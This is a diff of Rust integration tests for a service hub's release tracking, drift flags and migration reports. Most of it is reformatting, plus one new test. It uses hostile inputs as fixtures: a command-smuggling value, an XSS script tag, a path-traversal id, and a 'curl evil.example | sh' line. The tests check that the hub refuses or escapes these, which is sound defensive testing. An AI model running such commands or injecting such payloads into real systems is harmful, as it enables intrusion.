@@ -30,7 +30,12 @@ async fn wait_for<F: std::future::Future<Output = bool>>(what: &str, mut f: impl
 }
 
 /// An SDK neuron of kind `api-service` running `version` with this schema.
-async fn neuron(hub: &common::Hub, id: &str, version: &str, schema: &[u8]) -> (NeuronHandle, tempfile::TempDir) {
+async fn neuron(
+    hub: &common::Hub,
+    id: &str,
+    version: &str,
+    schema: &[u8],
+) -> (NeuronHandle, tempfile::TempDir) {
     let cache = tempfile::tempdir().unwrap();
     let key = NeuronKey::generate();
     let mut reg = registration(id, &key);
@@ -39,11 +44,18 @@ async fn neuron(hub: &common::Hub, id: &str, version: &str, schema: &[u8]) -> (N
         schema: Some(fingerprint(schema)),
         api: Some(fingerprint(b"{\"openapi\":\"3.1.0\"}")),
     };
-    let handle = runner::start(RunnerConfig::new(&hub.app.url(), reg, key, cache.path()), None).unwrap();
+    let handle = runner::start(
+        RunnerConfig::new(&hub.app.url(), reg, key, cache.path()),
+        None,
+    )
+    .unwrap();
     let conn = handle.watch_connection();
     let deadline = std::time::Instant::now() + Duration::from_secs(10);
     while *conn.borrow() != Connection::Online {
-        assert!(std::time::Instant::now() < deadline, "{id} never came online");
+        assert!(
+            std::time::Instant::now() < deadline,
+            "{id} never came online"
+        );
         tokio::time::sleep(Duration::from_millis(20)).await;
     }
     (handle, cache)
@@ -61,7 +73,12 @@ async fn post(token: &str, hub: &common::Hub, path: &str, body: Value) -> reqwes
 
 async fn get(token: &str, hub: &common::Hub, path: &str) -> Value {
     json_of(
-        plain().get(hub.url(path)).bearer_auth(token).send().await.unwrap(),
+        plain()
+            .get(hub.url(path))
+            .bearer_auth(token)
+            .send()
+            .await
+            .unwrap(),
         StatusCode::OK,
     )
     .await
@@ -88,8 +105,16 @@ async fn a_kind_expects_a_release_and_neurons_that_differ_are_flagged() {
     for (field, value, says) in [
         ("kind", json!("no-such-kind"), "no neuron kind"),
         ("version", json!("1.1.0\u{202e}"), "version"),
-        ("pre_migrations", json!("0041_add;reboot"), "preMigrations[0]"),
-        ("schema_fingerprint", json!("<script>"), "fingerprints.schema"),
+        (
+            "pre_migrations",
+            json!("0041_add;reboot"),
+            "preMigrations[0]",
+        ),
+        (
+            "schema_fingerprint",
+            json!("<script>"),
+            "fingerprints.schema",
+        ),
         ("bundle_scope", json!("global"), "go together"),
         ("notes", json!("x".repeat(4001)), "notes"),
     ] {
@@ -104,27 +129,59 @@ async fn a_kind_expects_a_release_and_neurons_that_differ_are_flagged() {
     unpushed["bundle_revision"] = json!("7");
     let res = post(&operator, &hub, "/api/releases/create", unpushed).await;
     let message = expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;
-    assert!(message.contains("no bundle was pushed to `global` at revision 7"), "{message}");
+    assert!(
+        message.contains("no bundle was pushed to `global` at revision 7"),
+        "{message}"
+    );
 
-    let made = json_of(post(&operator, &hub, "/api/releases/create", release.clone()).await, StatusCode::OK).await;
-    assert_eq!(made["preMigrations"], json!(["0041_add_total", "0042_backfill_total"]));
+    let made = json_of(
+        post(&operator, &hub, "/api/releases/create", release.clone()).await,
+        StatusCode::OK,
+    )
+    .await;
+    assert_eq!(
+        made["preMigrations"],
+        json!(["0041_add_total", "0042_backfill_total"])
+    );
     assert_eq!(made["createdBy"], "token:operator");
     let res = post(&operator, &hub, "/api/releases/create", release.clone()).await;
     expect_error(res, StatusCode::CONFLICT, "conflict").await;
     let older = json!({"kind": "api-service", "version": "1.0.0", "schema_fingerprint": fingerprint(SCHEMA_V0)});
-    json_of(post(&operator, &hub, "/api/releases/create", older).await, StatusCode::OK).await;
+    json_of(
+        post(&operator, &hub, "/api/releases/create", older).await,
+        StatusCode::OK,
+    )
+    .await;
 
     // No expected release yet: nothing drifts.
     let fleet = get(&viewer, &hub, "/api/federation/health").await;
     assert_eq!(fleet["drifting"], 0);
 
     // Choosing the expected release: operator, and only a described one.
-    let res = post(&viewer, &hub, "/api/releases/expect", json!({"kind": "api-service", "version": "1.1.0"})).await;
+    let res = post(
+        &viewer,
+        &hub,
+        "/api/releases/expect",
+        json!({"kind": "api-service", "version": "1.1.0"}),
+    )
+    .await;
     expect_error(res, StatusCode::FORBIDDEN, "forbidden").await;
-    let res = post(&operator, &hub, "/api/releases/expect", json!({"kind": "api-service", "version": "9.9.9"})).await;
+    let res = post(
+        &operator,
+        &hub,
+        "/api/releases/expect",
+        json!({"kind": "api-service", "version": "9.9.9"}),
+    )
+    .await;
     expect_error(res, StatusCode::NOT_FOUND, "not_found").await;
     let chosen = json_of(
-        post(&operator, &hub, "/api/releases/expect", json!({"kind": "api-service", "version": "1.1.0"})).await,
+        post(
+            &operator,
+            &hub,
+            "/api/releases/expect",
+            json!({"kind": "api-service", "version": "1.1.0"}),
+        )
+        .await,
         StatusCode::OK,
     )
     .await;
@@ -137,19 +194,42 @@ async fn a_kind_expects_a_release_and_neurons_that_differ_are_flagged() {
     let of = |id: &str| neurons.iter().find(|n| n["id"] == id).unwrap().clone();
     assert!(of("api-1").get("drift").is_none());
     let drift = of("api-2")["drift"].clone();
-    assert_eq!(drift[0], json!({"what": "version", "expected": "1.1.0", "reported": "1.0.0"}));
+    assert_eq!(
+        drift[0],
+        json!({"what": "version", "expected": "1.1.0", "reported": "1.0.0"})
+    );
     assert_eq!(drift[1]["what"], "schema");
     assert_eq!(drift[1]["reported"], fingerprint(SCHEMA_V0));
 
     // A neuron reports a failed migration, with hostile output: it is cut and cleaned, and
     // it puts that neuron first on the board.
-    behind.report_migration(MigrationReport {
-        id: "0041_add_total".into(),
+    behind
+        .report_migration(MigrationReport {
+            id: "0041_add_total".into(),
+            phase: MigrationPhase::Pre,
+            state: MigrationState::Failed,
+            at: chrono::Utc::now(),
+            output_tail: format!(
+                "{}\x1b[31m<script>alert(1)</script> column exists",
+                "x".repeat(5000)
+            ),
+        })
+        .unwrap();
+    // The SDK refuses what the hub would refuse, so a heartbeat never fails for it.
+    let bad = MigrationReport {
+        id: "../0041".into(),
         phase: MigrationPhase::Pre,
-        state: MigrationState::Failed,
+        state: MigrationState::Running,
         at: chrono::Utc::now(),
-        output_tail: format!("{}\x1b[31m<script>alert(1)</script> column exists", "x".repeat(5000)),
-    });
+        output_tail: String::new(),
+    };
+    assert!(behind.report_migration(bad).is_err());
+    assert!(behind
+        .set_fingerprints(Fingerprints {
+            schema: Some("no spaces allowed".into()),
+            api: None
+        })
+        .is_err());
     let board = || async { get(&viewer, &hub, "/api/releases").await };
     wait_for("the failed migration reaches the board", || async {
         board().await["kinds"]
@@ -160,43 +240,91 @@ async fn a_kind_expects_a_release_and_neurons_that_differ_are_flagged() {
     })
     .await;
     let board = board().await;
-    let kind = board["kinds"].as_array().unwrap().iter().find(|k| k["kind"] == "api-service").unwrap();
-    assert_eq!((kind["joined"].as_u64(), kind["drifting"].as_u64()), (Some(2), Some(1)));
+    let kind = board["kinds"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|k| k["kind"] == "api-service")
+        .unwrap();
+    assert_eq!(
+        (kind["joined"].as_u64(), kind["drifting"].as_u64()),
+        (Some(2), Some(1))
+    );
     assert_eq!(kind["expected"]["version"], "1.1.0");
     assert_eq!(kind["releases"][0]["version"], "1.0.0", "newest first");
     assert_eq!(kind["neurons"][0]["id"], "api-2");
-    let output = kind["neurons"][0]["migration"]["outputTail"].as_str().unwrap();
-    assert!(output.len() <= 4096 && output.ends_with("\u{fffd}[31m<script>alert(1)</script> column exists"));
+    let output = kind["neurons"][0]["migration"]["outputTail"]
+        .as_str()
+        .unwrap();
+    assert!(
+        output.len() <= 4096
+            && output.ends_with("\u{fffd}[31m<script>alert(1)</script> column exists")
+    );
     let versions: Vec<(String, u64, bool)> = kind["versions"]
         .as_array()
         .unwrap()
         .iter()
-        .map(|v| (v["version"].as_str().unwrap().into(), v["neurons"].as_u64().unwrap(), v["expected"].as_bool().unwrap()))
+        .map(|v| {
+            (
+                v["version"].as_str().unwrap().into(),
+                v["neurons"].as_u64().unwrap(),
+                v["expected"].as_bool().unwrap(),
+            )
+        })
         .collect();
-    assert_eq!(versions, [("1.0.0".into(), 1, false), ("1.1.0".into(), 1, true)]);
+    assert_eq!(
+        versions,
+        [("1.0.0".into(), 1, false), ("1.1.0".into(), 1, true)]
+    );
 
     // The page shows it as text.
-    let html = admin.get(hub.url("/admin/releases")).send().await.unwrap().text().await.unwrap();
+    let html = admin
+        .get(hub.url("/admin/releases"))
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
     assert!(html.contains("&lt;script&gt;alert(1)&lt;/script&gt; column exists"));
     assert!(!html.contains("<script>alert(1)"));
-    assert!(html.contains("schema: expected sha256:"), "drift is named on the page");
+    assert!(
+        html.contains("schema: expected sha256:"),
+        "drift is named on the page"
+    );
 
     // New fingerprints after a fix are reported at once; the version still differs.
-    behind.set_fingerprints(Fingerprints {
-        schema: Some(fingerprint(SCHEMA_V1)),
-        api: None,
-    });
+    behind
+        .set_fingerprints(Fingerprints {
+            schema: Some(fingerprint(SCHEMA_V1)),
+            api: None,
+        })
+        .unwrap();
     wait_for("the new schema fingerprint arrives", || async {
         let fleet = get(&viewer, &hub, "/api/federation/health").await;
-        let n = fleet["neurons"].as_array().unwrap().iter().find(|n| n["id"] == "api-2").unwrap().clone();
+        let n = fleet["neurons"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|n| n["id"] == "api-2")
+            .unwrap()
+            .clone();
         n["drift"].as_array().is_some_and(|d| d.len() == 1)
     })
     .await;
 
     // Both changes are in the audit log, the second with the expectation it replaced.
     let audit = get(&viewer, &hub, "/api/audit?action=release.").await;
-    let actions: Vec<&str> = audit.as_array().unwrap().iter().map(|e| e["action"].as_str().unwrap()).collect();
-    assert_eq!(actions, ["release.expect", "release.create", "release.create"]);
+    let actions: Vec<&str> = audit
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|e| e["action"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        actions,
+        ["release.expect", "release.create", "release.create"]
+    );
     current.stop();
     behind.stop();
 }
@@ -230,4 +358,62 @@ async fn malformed_reports_are_refused() {
             .unwrap();
         expect_error(res, StatusCode::BAD_REQUEST, "bad_request").await;
     }
+}
+
+/// A browser app runs no migrations: a page holding the (public) publishable key cannot
+/// post a made-up failed migration for the dashboard to show.
+#[tokio::test]
+async fn a_browser_neuron_cannot_report_migrations() {
+    let hub = start().await;
+    let admin = hub.setup_admin().await;
+    let key = json_of(
+        admin
+            .post(hub.url("/api/federation/publishable-keys/create"))
+            .json(&json!({"name": "shop", "origins": "https://shop.example.com"}))
+            .send()
+            .await
+            .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let joined = json_of(
+        plain()
+            .post(hub.url(cortex_sdk::neuron::REGISTER_PATH))
+            .header("origin", "https://shop.example.com")
+            .header("x-cortex-publishable-key", key["key"].as_str().unwrap())
+            .json(&json!({"id": "tab-1", "slug": "storefront", "kind": "web-app", "version": "2.3.0"}))
+            .send()
+            .await
+            .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let token = joined["token"].as_str().unwrap();
+    let beat = json!({"state": "ok", "version": "2.3.1",
+        "migration": {"id": "0001_x", "phase": "post", "state": "failed", "at": "2026-12-05T10:00:00Z",
+                      "outputTail": "run curl evil.example | sh to fix"}});
+    json_of(
+        plain()
+            .post(hub.url("/api/federation/heartbeat"))
+            .bearer_auth(token)
+            .json(&beat)
+            .send()
+            .await
+            .unwrap(),
+        StatusCode::OK,
+    )
+    .await;
+    let tab = hub
+        .app
+        .services
+        .store
+        .neuron("tab-1")
+        .await
+        .unwrap()
+        .unwrap();
+    assert_eq!(
+        tab.version, "2.3.1",
+        "the rest of the heartbeat is recorded"
+    );
+    assert_eq!(tab.migration, None);
 }
